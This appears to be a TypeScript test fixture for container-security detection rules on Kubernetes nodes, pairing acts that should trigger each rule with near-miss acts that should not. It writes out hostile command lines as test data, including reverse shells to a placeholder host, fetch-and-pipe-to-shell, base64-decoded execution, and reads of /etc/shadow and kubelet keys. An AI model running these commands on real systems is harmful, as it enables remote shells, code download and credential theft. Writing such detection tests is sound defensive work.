// Of each of our rules on nodes: acts that fire it, and acts that come near and must not.
import {
  type Act,
  calls,
  connectsTo,
  connectsToSocket,
  type Deed,
  duplicates,
  empties,
  opens,
  type Program,
  touches,
  writes,
} from "./acts.fixture.ts";
import { root } from "./rule-item.ts";

export interface RuleCase {
  readonly rule: string;
  readonly fires: readonly Act[];
  readonly near: readonly Act[];
}

type Short = string | Program;

/** "cat /etc/shadow": the program by its name, below /usr/bin. */
function program(short: Short): Program {
  if (typeof short !== "string") return short;
  const [name = "", ...words] = short.split(" ");
  return { path: name.startsWith("/") ? name : `/usr/bin/${name}`, arguments: words };
}

const runs = (short: Short, more: Partial<Program> = {}): Act => ({ program: { ...program(short), ...more } });
const does = (short: Short, deed: Deed, more: Partial<Program> = {}): Act => ({
  program: { ...program(short), ...more },
  deed,
});
const host = { onHost: true };
/** The node's own runtime, at work in a container. */
const ofHost = { isHostFile: true };
const shellC = (words: string): Program => ({ path: "/usr/bin/bash", arguments: ["-c", words] });

const hostAccess: readonly RuleCase[] = [
  {
    rule: "Container talks to the container runtime",
    fires: [
      does("curl", connectsToSocket("/var/run/docker.sock")),
      does("app", connectsToSocket("/host/run/containerd/containerd.sock")),
    ],
    near: [
      does("curl", connectsToSocket("/var/run/docker.sock"), host),
      does("app", connectsToSocket("/run/postgresql/.s.PGSQL.5432")),
    ],
  },
  {
    rule: "Container opens the container runtime's files",
    fires: [does("ls", opens("/host/var/lib/docker/overlay2/l"))],
    near: [does("ls", opens("/var/lib/dockerfiles/a")), does("dockerd", opens("/var/lib/docker/containers/x"), host)],
  },
  {
    rule: "Container opens files of the kubelet",
    fires: [does("cat", opens("/var/lib/kubelet/pki/kubelet-client-current.pem"))],
    near: [
      does("kubelet", opens("/var/lib/kubelet/pki/kubelet-client-current.pem"), host),
      does("cat", opens("/var/lib/kubelet-plugins/x")),
    ],
  },
  {
    rule: "Container reads the control plane's files",
    fires: [does("cat", opens("/etc/kubernetes/admin.conf")), does("tar", opens("/host/etc/kubernetes/pki/ca.key"))],
    near: [
      does("kube-apiserver", opens("/etc/kubernetes/pki/ca.crt")),
      does("cat", opens("/etc/kubernetes/notes.txt")),
    ],
  },
  {
    rule: "Container writes a static pod manifest",
    fires: [does("sh", writes("/host/etc/kubernetes/manifests/evil.yaml"))],
    near: [does("sh", opens("/host/etc/kubernetes/manifests/etcd.yaml"))],
  },
  {
    rule: "Container opens sensitive files of a mounted host",
    fires: [
      does("cat", opens("/host/etc/shadow")),
      does("sh", writes(`/rootfs${root}/.ssh/authorized_keys`)),
      does("cat", opens("/srv/strange/shadow", { hostPath: "/etc/shadow" })),
    ],
    near: [
      does("node_exporter", opens("/host/proc/stat")),
      does("cat", opens("/etc/passwd")),
      does("cat", opens("/srv/strange/hostname", { hostPath: "/etc/hostname" })),
    ],
  },
  {
    rule: "Container reaches the host's files through /proc",
    fires: [does("cat", opens("/etc/hostname", { requestedPath: `/proc/1${root}/etc/hostname` }))],
    near: [
      does("cat", opens("/etc/hostname", { requestedPath: `/proc/self${root}/etc/hostname` })),
      does("ps", opens("/proc/1/stat")),
    ],
  },
  {
    rule: "Container opens a disk or memory of the host",
    fires: [does("dd", opens("/dev/sda1")), does("app", opens("/proc/kcore"))],
    near: [does("app", opens("/dev/null")), does("fsck", opens("/dev/sda1"), host)],
  },
  {
    rule: "Container changes what the host runs for crashed programs",
    fires: [
      does("sh", writes("/proc/sys/kernel/core_pattern")),
      does("sh", writes("/host/proc/sys/kernel/core_pattern")),
    ],
    near: [
      does("cat", opens("/proc/sys/kernel/core_pattern")),
      does("sysctl", writes("/proc/sys/kernel/core_pattern"), host),
    ],
  },
  {
    rule: "Container sets a cgroup's release agent",
    fires: [does("sh", empties("/tmp/cgrp/release_agent"))],
    near: [does("sh", writes("/tmp/cgrp/notify_on_release")), does("cat", opens("/sys/fs/cgroup/rdma/release_agent"))],
  },
  {
    rule: "Container moves a process to another control group",
    fires: [
      does("sh", writes("/tmp/cg0/cgroup.procs")),
      does("sh", writes("/sys/fs/cgroup/cgroup.threads")),
      does("sh", writes("/sys/fs/cgroup/memory/tasks")),
    ],
    near: [
      does("sh", opens("/sys/fs/cgroup/cgroup.procs")),
      does("sh", writes("/srv/tasks")),
      does("runc", writes("/sys/fs/cgroup/cgroup.procs"), ofHost),
    ],
  },
  {
    rule: "Container sets the kernel's uevent helper",
    fires: [does("sh", writes("/sys/kernel/uevent_helper"))],
    near: [does("sh", opens("/sys/kernel/uevent_helper")), does("sh", writes("/sys/kernel/mm/ksm/run"))],
  },
  {
    rule: "Container registers an interpreter with the kernel",
    fires: [does("sh", writes("/proc/sys/fs/binfmt_misc/register"))],
    near: [does("sh", opens("/proc/sys/fs/binfmt_misc/status"))],
  },
  {
    rule: "Container writes a setting of the host's kernel",
    fires: [does("sysctl", writes("/proc/sys/vm/overcommit_memory")), does("sh", writes("/proc/sysrq-trigger"))],
    near: [
      does("sysctl", writes("/proc/sys/net/core/somaxconn")),
      does("sysctl", opens("/proc/sys/vm/overcommit_memory")),
      does("sysctl", writes("/proc/sys/vm/swappiness"), host),
    ],
  },
  {
    rule: "Container loads a kernel module",
    fires: [
      does("insmod", calls("finit_module", { text: "/tmp/rootkit.ko" })),
      does("app", calls("init_module", { result: -1 })),
    ],
    near: [
      does("modprobe", calls("finit_module", { text: "/lib/modules/x.ko" }), host),
      does("app", calls("delete_module")),
    ],
  },
  {
    rule: "Container loads a BPF program",
    fires: [does("app", calls("bpf", { arguments: [5], result: 7 }))],
    near: [
      does("app", calls("bpf", { arguments: [1] })),
      does("app", calls("bpf", { arguments: [5], result: 7 }), host),
    ],
  },
  {
    rule: "Container mounts a file system",
    fires: [
      does("mount", touches("mount", "mount", { path: "/mnt", targetPath: "/dev/sda1" })),
      // Names that a workload gives itself.
      does("/dev/shm/runc", touches("mount", "mount", { path: "/mnt" })),
      does("conmon", touches("mount", "mount", { path: "/mnt" })),
      does("mount", touches("mount", "mount", { path: "/mnt" }), ofHost),
    ],
    near: [
      does("mount", touches("mount", "mount", { path: "/mnt", error: 1 })),
      does("mount", touches("mount", "mount", { path: "/mnt" }), host),
      does("runc", touches("mount", "mount", { path: "/proc" }), ofHost),
      does("containerd-shim-runc-v2", touches("mount", "mount", { path: "/proc" }), ofHost),
    ],
  },
  {
    rule: "Container enters another namespace",
    fires: [does("app", calls("setns", { arguments: [3, 0x20000] }))],
    near: [
      does("app", calls("setns", { arguments: [3, 0x20000], result: -1 })),
      does("runc", calls("setns", { arguments: [3, 0x20000] }), ofHost),
      does("app", calls("setns"), host),
    ],
  },
  {
    rule: "nsenter is run in a container",
    fires: [runs("nsenter -t 1 -m -u -n -i sh")],
    near: [runs("nsenter -t 1 -m sh", host), runs("nsjail --help")],
  },
  {
    rule: "Container makes a user namespace",
    fires: [does("app", calls("unshare", { arguments: [0x10000000] }))],
    near: [
      does("app", calls("unshare", { arguments: [0x20000] })),
      does("app", calls("unshare", { arguments: [0x10000000] }), host),
    ],
  },
  {
    rule: "Container changes its root to a mounted host",
    fires: [runs("chroot /host sh")],
    near: [runs("chroot /srv/jail sh"), runs("chroot /host sh", host)],
  },
  {
    rule: "Container takes hold of another process",
    fires: [
      does("gdb", calls("ptrace", { arguments: [16, 55] })),
      does("app", calls("ptrace", { arguments: [0x4206, 55] })),
    ],
    near: [
      does("app", calls("ptrace", { arguments: [0] })),
      does("gdb", calls("ptrace", { arguments: [16, 55] }), host),
    ],
  },
  {
    rule: "Container writes into another process's memory",
    fires: [does("app", calls("process_vm_writev", { result: 8 }))],
    near: [
      does("app", calls("process_vm_readv", { result: 8 })),
      does("app", calls("process_vm_writev", { result: 8 }), host),
    ],
  },
  {
    rule: "Tool for a file system's raw blocks is run in a container",
    fires: [runs("debugfs -w /dev/sda1")],
    near: [runs("debugfs -w /dev/sda1", host), runs("df -h")],
  },
];

const execution: readonly RuleCase[] = [
  {
    rule: "Standard input or output becomes a network connection",
    fires: [does("python3", duplicates(0, "ipv4")), does("nc", duplicates(1, "ipv4"))],
    near: [
      does("python3", duplicates(7, "ipv4")),
      does("bash", duplicates(0, "pipe")),
      does("sshd", duplicates(0, "ipv4")),
      does("python3", duplicates(0, "ipv4"), host),
    ],
  },
  {
    rule: "Command line of a reverse shell",
    fires: [
      runs(shellC("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")),
      runs({
        path: "/usr/bin/python3",
        arguments: ["-c", "import socket,pty;s=socket.socket();s.connect((h,1));pty.spawn('sh')"],
      }),
      runs(shellC("mkfifo /tmp/f; cat /tmp/f | sh -i | nc 203.0.113.9 4444 > /tmp/f")),
    ],
    near: [
      runs(shellC("cat /dev/tcp-notes")),
      runs({ path: "/usr/bin/python3", arguments: ["-c", "import socket; print(socket.gethostname())"] }),
      runs(shellC("mkfifo /tmp/f")),
    ],
  },
  {
    rule: "Netcat hands a connection to a program",
    fires: [runs("nc -e /bin/sh 203.0.113.9 4444"), runs("socat TCP:203.0.113.9:4444 EXEC:sh")],
    near: [runs("nc -z db 5432"), runs("socat TCP-LISTEN:80 TCP:web:80")],
  },
  {
    rule: "Shell started by a server program",
    fires: [
      runs(shellC("id"), { parent: "/usr/sbin/nginx" }),
      runs({ path: "/bin/sh", arguments: ["-c", "ls"] }, { parent: "/usr/bin/java" }),
    ],
    near: [
      runs(shellC("id"), { parent: "/opt/app/worker" }),
      runs("ls", { parent: "/usr/sbin/nginx" }),
      runs(shellC("id"), { parent: "/usr/sbin/nginx", onHost: true }),
    ],
  },
  {
    rule: "Shell with a terminal in a container",
    fires: [runs("bash", { tty: 34_816 })],
    near: [runs("bash"), runs("bash", { tty: 34_816, onHost: true }), runs("ls", { tty: 34_816 })],
  },
  {
    rule: "Script is fetched and run at once",
    fires: [runs(shellC("curl -s http://203.0.113.9/x.sh | sh"))],
    near: [runs(shellC("curl -s http://api/health")), runs(shellC("cat x | sh"))],
  },
  {
    rule: "Encoded script is decoded and run",
    fires: [runs(shellC("echo aWQ= | base64 -d | bash"))],
    near: [runs(shellC("echo aWQ= | base64 -d > /tmp/a")), runs(shellC("echo id | bash"))],
  },
  {
    rule: "Program that has no file is run",
    fires: [runs("/memfd:x", { isFileless: true }), runs("/memfd:runc_cloned:x", { isFileless: true })],
    near: [runs("/opt/x"), runs("/memfd:runc_cloned:/proc/self/exe", { isFileless: true, isHostFile: true })],
  },
  {
    rule: "Program that is not of the image is run",
    fires: [runs("/opt/dropped", { isUpper: true })],
    near: [
      runs("/opt/dropped"),
      runs("/var/lib/dpkg/info/x.postinst", { isUpper: true, parent: "/usr/bin/dpkg" }),
      runs("/opt/dropped", { isUpper: true, onHost: true }),
    ],
  },
  {
    rule: "Script that is not of the image is run",
    fires: [does("sh", opens("/opt/dropped.sh", { isUpper: true }), { script: "../opt/dropped.sh" })],
    near: [
      does("sh", opens("/opt/of-image.sh"), { script: "/opt/of-image.sh" }),
      does("sh", opens("/opt/data", { isUpper: true }), { script: "/opt/of-image.sh" }),
    ],
  },
  {
    rule: "Program is run from a folder that all may write to",
    fires: [
      runs("/tmp/x"),
      runs("/dev/shm/x"),
      runs("sh", { script: "/tmp/x.sh" }),
      runs("sh", { script: "../dev/shm/x.sh" }),
    ],
    near: [runs("/usr/bin/x"), runs("/tmp/x", host), runs("sh", { script: "/usr/bin/ldd" })],
  },
  {
    rule: "Hidden program is run",
    fires: [runs("/var/spool/.x/run")],
    near: [runs("/var/spool/x/run"), runs(`${root}/.local/bin/tool`)],
  },
  {
    rule: "Program disguises itself as a kernel thread",
    fires: [runs({ path: "/var/lib/k", exe: "[kworker/0:1]" })],
    near: [runs({ path: "/usr/bin/[", exe: "/usr/bin/[" }), runs({ path: "/var/lib/k" })],
  },
  {
    rule: "Package manager is run in a container",
    fires: [runs("apt-get install nmap"), runs("pip install requests")],
    near: [runs("pip list"), runs("apt-get update", host), runs("dpkg --configure -a", { parent: "/usr/bin/apt-get" })],
  },
  {
    rule: "Compiler is run in a container",
    fires: [runs("gcc x.c")],
    near: [runs("gcc x.c", host), runs("cc1 x.c", { parent: "/usr/bin/gcc" }), runs("ldd x")],
  },
  {
    rule: "Crypto miner by its arguments",
    fires: [runs("x -o stratum+tcp://pool.example:3333"), runs("/opt/xmrig")],
    near: [runs("x -o tcp://pool.example:3333"), runs("stratum --help")],
  },
  {
    rule: "Connection to a port of mining pools",
    fires: [does("app", connectsTo("203.0.113.9", 3333))],
    near: [
      does("app", connectsTo("10.2.0.9", 3333)),
      does("app", connectsTo("203.0.113.9", 443)),
      does("app", connectsTo("203.0.113.9", 3333), host),
    ],
  },
  {
    rule: "Kubernetes client is run in a container",
    fires: [runs("kubectl get secrets")],
    near: [runs("kubectl get secrets", host), runs("kubectlx")],
  },
  {
    rule: "Network scanner is run",
    fires: [runs("nmap -sS 10.0.0.0/8"), runs("masscan 10.0.0.0/8", host)],
    near: [runs("map 10"), runs("ping db")],
  },
  {
    rule: "Tunnel is opened",
    fires: [runs("chisel client x"), runs("ssh -N -R 80:localhost:80 x")],
    near: [runs("ssh build@git"), runs("chiseled")],
  },
  {
    rule: "SSH is run in a container",
    fires: [runs("ssh build@git"), runs("/usr/sbin/sshd -D")],
    near: [runs("/usr/sbin/sshd -D", host), runs("ssh-keygen -l")],
  },
  {
    rule: "Tool that probes for ways out of a container is run",
    fires: [runs("amicontained"), runs("capsh --print")],
    near: [runs("contained"), runs("caps")],
  },
  {
    rule: "Packets are captured in a container",
    fires: [runs("tcpdump -i any")],
    near: [runs("tcpdump -i any", host), runs("tcpping x")],
  },
];

export const nodeCases: readonly RuleCase[] = [...hostAccess, ...execution];
export { does, runs, shellC, host };
